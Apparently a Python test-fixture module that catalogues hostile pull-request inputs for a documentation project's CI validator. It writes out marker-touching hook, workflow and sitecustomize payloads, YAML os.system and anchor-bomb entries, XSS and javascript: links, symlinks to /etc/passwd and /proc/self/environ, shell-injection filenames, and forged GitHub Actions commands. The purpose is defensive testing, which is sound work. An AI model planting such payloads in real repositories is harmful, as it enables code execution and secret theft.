"""What a hostile pull request may try. `PWNED` stands for a file that is there if one succeeds."""

import os
from collections.abc import Mapping
from pathlib import Path

PWNED = "@PWNED@"
SECRET = "@SECRET@"
# Files by path that must stay where they are, each with the reason that is given for it.
HIDDEN = "hidden files are settings"
OTHER = "only entries, pages and images are taken"
RUNS = f"import pathlib; pathlib.Path('{PWNED}').touch()\n"
SHELL = f"touch {PWNED}\n"
LEFT: Mapping[str, tuple[str, str]] = {
    ".github/workflows/glossary.yml": (
        f"on: pull_request\njobs: {{a: {{steps: [{{run: {SHELL!r}}}]}}}}\n",
        HIDDEN,
    ),
    ".github/actions/glossary/action.yml": ("runs: {}\n", HIDDEN),
    ".git-hooks/post-checkout": (SHELL, HIDDEN),
    ".gitattributes": ("* filter=evil\n", HIDDEN),
    ".gitconfig": (f"[core]\nfsmonitor = {SHELL}", HIDDEN),
    ".env": ("GITHUB_TOKEN=x\n", HIDDEN),
    ".python-version": ("2.7\n", HIDDEN),
    "docs/.meta.yml": ("template: evil.html\n", HIDDEN),
    "docs/.pages": ("nav: [x]\n", HIDDEN),
    "terms/.hidden.yml": ("name: x\n", HIDDEN),
    "conftest.py": (RUNS, OTHER),
    "sitecustomize.py": (RUNS, OTHER),
    "usercustomize.py": (RUNS, OTHER),
    "generator/__init__.py": (RUNS, OTHER),
    "mkdocs/__init__.py": (RUNS, OTHER),
    "terms/sitecustomize.py": (RUNS, OTHER),
    "docs/hook.py": (RUNS, OTHER),
    "setup.py": (RUNS, OTHER),
    "pyproject.toml": ('[build-system]\nrequires = ["evil"]\n', OTHER),
    "requirements.txt": ("evil @ https://example.org/evil.whl\n", OTHER),
    "pip.conf": ("[global]\nindex-url = https://example.org\n", OTHER),
    "git": (SHELL, OTHER),
    "termloom": (SHELL, OTHER),
    "Makefile": (f"all:\n\t{SHELL}", OTHER),
    "templates/sections/definition.html.jinja": ("{{ ''.__class__.__mro__ }}", OTHER),
    "docs/overrides/main.html": ("{% include '/etc/passwd' %}", OTHER),
    "docs/extra.js": ("window.hacked = 1", OTHER),
    "docs/extra.css": ("@import 'https://example.org/x.css'", OTHER),
    "docs/index.html": ("<script>window.hacked = 1</script>", OTHER),
    "docs/CNAME": ("example.org\n", OTHER),
    "site/index.html": ("<script>window.hacked = 1</script>", OTHER),
    "mkdocs.yml": (
        f"hooks: [docs/hook.py]\nINHERIT: {SECRET}\nplugins: [termloom]\n",
        "settings decide what runs",
    ),
    "terms/line\nbreak.yml": ("name: x\n", "its name holds characters that cannot be shown"),
    "terms/\n::error::forged.yml": ("name: x\n", "its name holds characters that cannot be shown"),
    "terms/\x1b[2Jclear.yml": ("name: x\n", "its name holds characters that cannot be shown"),
    "docs/\u202egpj.md": ("# x\n", "its name holds characters that cannot be shown"),
}
LINK = "it is a symbolic link"
LINKS: Mapping[str, str] = {
    "terms/passwd.yml": "/etc/passwd",
    "terms/secret.yml": SECRET,
    "docs/secret.md": SECRET,
    "docs/up.md": "../../../secret",
    "docs/git.md": "../.git/config",
    "docs/environ.md": "/proc/self/environ",
    "docs/image.png": SECRET,
    "terms/all": "/",
    "docs/all": "/etc",
}

# Entries that are taken, and refused by a rule; of some it is only asked that they do no harm.
ENTRY = "name: Bad\ncategory: measuring-email\ndefinition: {}\nwhy_it_matters: It is bad.\n"
NESTED = "\n".join(f"{'  ' * depth}- a{depth}:" for depth in range(200))
BOMB = "a: &a [x, x, x, x]\nb: &b [*a, *a, *a, *a]\nc: &c [*b, *b, *b, *b]\nname: *c\n"
REFUSED: Mapping[str, tuple[str, str]] = {
    "tag-object": (
        f"name: !!python/object/apply:os.system ['{SHELL.strip()}']\n",
        "unsupported-yaml",
    ),
    "tag-module": ("name: !!python/module:os\n", "unsupported-yaml"),
    "tag-env": ("name: !ENV HOME\n", "unsupported-yaml"),
    "tag-include": (f"name: !include {SECRET}\n", "unsupported-yaml"),
    "anchors": (BOMB, "unsupported-yaml"),
    "merge-key": ("<<: &x {name: a}\nname: b\n", "unsupported-yaml"),
    "two-documents": ("name: x\n---\nname: y\n", "unsupported-yaml"),
    "deep": (f"name: x\nexamples:\n{NESTED}\n", "too-deep"),
    "brackets": ("name: " + "[" * 100_000, "too-deep"),
    "html-script": (ENTRY.format("<script>window.hacked=1</script>"), "raw-html"),
    "html-image": (ENTRY.format("<img src=x onerror=alert(1)>"), "raw-html"),
    "html-svg": (ENTRY.format("<svg onload=alert(1)>"), "raw-html"),
    # No tag to CommonMark, so it is text; a browser would be less strict.
    "html-loose": (ENTRY.format("<svg/onload=window.hacked=1> <img src=x onerror=a=b>"), ""),
    "html-comment": (ENTRY.format("a <!-- b --> c"), "raw-html"),
    "link-javascript": (ENTRY.format("'[x](javascript:alert(1))'"), "unsafe-link"),
    "link-data": (ENTRY.format("'[x](data:text/html,<script>1</script>)'"), "unsafe-link"),
    "link-vbscript": (ENTRY.format("'[x](vbscript:x)'"), "unsafe-link"),
    "link-file": (ENTRY.format("'[x](file:///etc/passwd)'"), "unsafe-link"),
    "link-entity": (ENTRY.format("'[x](java&#115;cript:alert(1))'"), "unsafe-link"),
    "image-remote": (ENTRY.format("'![x](https://example.org/x.png)'"), "remote-image"),
    "image-escape": (ENTRY.format("'![x](../../../../../../etc/passwd)'"), "dead-link"),
    "link-escape": (ENTRY.format("'[x](../../.git/config)'"), "dead-link"),
    "name-markup": ("name: <script>window.hacked=1</script>\n", "wrong-value"),
    "name-lines": ('name: "x\\n::error::forged"\n', ""),
    "former-escape": ("name: x\nformer_ids: [../../index]\n", "wrong-value"),
    "related-escape": ("name: x\nrelated: [{term: ../../etc/passwd}]\n", "wrong-value"),
    "forged-command": (ENTRY.format("'[[::error file=mkdocs.yml::forged]]'"), "unknown-term"),
    "forged-old-command": (ENTRY.format("'[[##[error]forged ##[set-env name=A]b]]'"), ""),
    "forged-output": (ENTRY.format("'[[::set-output name=pages::false]]'"), "unknown-term"),
    "forged-percent": (ENTRY.format("'[[x%0A::error::forged]]'"), "unknown-term"),
    "forged-env": (ENTRY.format("'[[GITHUB_ENV=x]]'") + "bounce: ${GITHUB_ENV}\n", "unknown-field"),
    "summary-markup": (ENTRY.format("'[[a`b @everyone #1 ![p](https://example.org/p.png)]]'"), ""),
    "summary-table": (ENTRY.format("x") + '"| a | <b>b</b> `c` @everyone": x\n', "unknown-field"),
    "shell": (
        ENTRY.format(f"'[[$({SHELL.strip()}) `{SHELL.strip()}` ; {SHELL.strip()} ]]'"),
        "unknown-term",
    ),
    "bidi": (ENTRY.format("'a \u202e b'"), "bidirectional-control"),
    "escape-codes": (ENTRY.format('"a \\x1b[2J\\x1b]0;x\\x07 b"'), ""),
    "nul": ("name: a\0b\n", "encoding"),
    "not-utf-8": ("name: caf\udce9\n", "encoding"),
    "long-line": (ENTRY.format("x" * 500_000), ""),
    "many-references": (ENTRY.format(f"'{'[[x]] ' * 20_000}'"), "wrong-value"),
    "many-stars": (ENTRY.format(f"'{'*a_' * 20_000}'"), ""),
    "billion-quotes": ("name: x\nexplanation: |\n  " + ">" * 50_000 + " x\n", ""),
}
# Names of files that would mean something to a shell, a program or a log.
NAMES = (
    "$(touch pwned).yml",
    "`touch pwned`.yml",
    "a;touch pwned;.yml",
    "a' \".yml",
    "-rf.yml",
    "--config.yml",
    "%0A::error::forged.yml",
    "::error::forged.yml",
    "a&b|c.yml",
    "<img src=x onerror=alert(1)>.yml",
    "CON.yml",
)


def place(folder: Path, files: Mapping[str, str], *, pwned: Path, secret: Path) -> None:
    """Write files by path; a text may hold bytes that are no UTF-8, as surrogates."""
    for path, text in files.items():
        file = folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        if os.path.lexists(file):
            file.unlink()
        whole = text.replace(PWNED, str(pwned)).replace(SECRET, str(secret))
        file.write_bytes(whole.encode("utf-8", "surrogateescape"))


def linked(folder: Path, *, secret: Path) -> None:
    """Make the symbolic links."""
    for path, target in LINKS.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).symlink_to(target.replace(SECRET, str(secret)))
